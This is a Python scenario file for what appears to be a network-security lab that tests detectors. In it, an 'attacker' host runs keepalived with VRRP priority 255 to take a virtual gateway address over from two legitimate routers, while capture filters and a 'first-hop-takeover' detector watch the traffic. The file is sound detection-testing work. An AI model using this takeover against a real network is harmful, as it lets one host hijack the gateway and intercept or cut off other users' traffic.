"""A host takes over a virtual router by VRRP."""

from lab.namespaces import Host
from lab.range import Range
from lab.scenario import Scenario

CONFIGURATION = """
global_defs { router_id NAME }
vrrp_instance gateway {
    state STATE
    interface eth0
    virtual_router_id 7
    priority PRIORITY
    advert_int 1
    virtual_ipaddress { 10.20.0.254/24 }
}
"""


def router(host: Host, state: str, priority: int) -> list[str]:
    """The command of keepalived on the host."""
    text = CONFIGURATION.replace("STATE", state).replace("PRIORITY", str(priority)).replace("NAME", host.name)
    file = host.folder / "keepalived.conf"
    file.write_text(text)
    return ["keepalived", "-n", "-l", "-P", "-f", str(file), "-p", str(host.folder / "keepalived.pid")]


def run(net: Range) -> None:
    attacker = net.inside("attacker")
    first, second = net.inside("gateway1"), net.inside("gateway2")
    net.everyday()
    first.start(*router(first, "MASTER", 150))
    second.start(*router(second, "BACKUP", 100))
    net.loop(net.inside("pc2"), "ping -n -q -c 1 -W 1 10.20.0.254", 1.0)
    net.quiet(14)
    with net.attack(
        "first-hop-takeover",
        by=attacker,
        victims=[first, "10.20.0.254"],
        frames="ip proto 112 or (arp and arp src host 10.20.0.254)",
        responses="ip proto 112",
    ):
        net.tool(attacker, *router(attacker, "MASTER", 255), seconds=10)
    net.quiet(3)


SCENARIO = Scenario(
    name="first-hop-takeover-vrrp",
    about="A host with priority 255 takes a virtual router over from the two routers that keep it.",
    detectors=("first-hop-takeover",),
    tools={"keepalived": "keepalived"},
    run=run,
)
